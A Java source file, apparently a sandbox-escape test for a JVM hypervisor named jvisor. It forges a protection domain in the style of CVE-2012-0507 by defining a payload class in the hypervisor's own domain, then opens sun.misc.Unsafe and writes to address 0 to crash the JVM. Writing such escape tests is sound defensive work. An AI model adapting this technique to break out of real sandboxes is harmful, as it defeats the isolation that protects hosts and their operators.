package escape.hypervisor;

import java.io.InputStream;
import java.lang.reflect.Field;
import java.security.ProtectionDomain;

/**
 * Defines a class of its own in the protection domain of the hypervisor's classes, found on its
 * own stack (the frames below {@code main}), so that the hypervisor takes the class for one of its
 * own; from there, opens {@code sun.misc.Unsafe} by {@code setAccessible} (refused to a guest's
 * class) and stores to address 0, which kills the JVM. Without jvisor the program just returns.
 *
 * <p>Source: CVE-2012-0507, a class loader of the exploit's own defines a class in a protection
 * domain it made, granting it what the sandbox denies,
 * https://nvd.nist.gov/vuln/detail/CVE-2012-0507
 */
public final class ForgedDomain {

    private ForgedDomain() {
    }

    /** The part that runs in the borrowed domain: only the JDK's types, so that it links in a loader of its own. */
    public static final class Payload {

        private Payload() {
        }

        /** Opens {@code Unsafe.theUnsafe}, refused to a guest's class, and stores to address 0: the JVM dies. */
        public static String run(Field theUnsafe) throws IllegalAccessException {
            theUnsafe.setAccessible(true);
            sun.misc.Unsafe unsafe = (sun.misc.Unsafe) theUnsafe.get(null);
            unsafe.putAddress(0L, 0L);
            return "the store to address 0 returned?!";
        }
    }

    /** A loader that defines one class, in a domain it is given. */
    private static final class Definer extends ClassLoader {

        Definer() {
            super(ClassLoader.getPlatformClassLoader());
        }

        Class<?> define(String name, byte[] bytes, ProtectionDomain domain) {
            return defineClass(name, bytes, 0, bytes.length, domain);
        }
    }

    public static void main(String[] args) {
        try {
            ProtectionDomain hypervisors = StackWalker.getInstance(StackWalker.Option.RETAIN_CLASS_REFERENCE)
                    .walk(frames -> frames.map(StackWalker.StackFrame::getDeclaringClass)
                            .filter(c -> c.getName().startsWith("io.jvisor.") && c.getClassLoader() != null).findFirst())
                    .map(Class::getProtectionDomain).orElse(null);
            if (hypervisors == null) {
                System.out.println("hypervisor-forged-domain: no hypervisor's frame on the stack; returning");
            } else {
                byte[] bytes;
                try (InputStream in = ForgedDomain.class.getResourceAsStream("ForgedDomain$Payload.class")) {
                    bytes = in.readAllBytes();
                }
                Class<?> payload = new Definer().define(Payload.class.getName(), bytes, hypervisors);
                System.out.println("hypervisor-forged-domain: a class in the hypervisor's domain stores to address 0");
                Object said = payload.getMethod("run", Field.class).invoke(null,
                        Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe"));
                System.out.println("hypervisor-forged-domain: " + said);
            }
        } catch (Throwable t) {
            System.out.println("hypervisor-forged-domain: " + (t instanceof java.lang.reflect.InvocationTargetException ? t.getCause() : t));
        }
    }
}
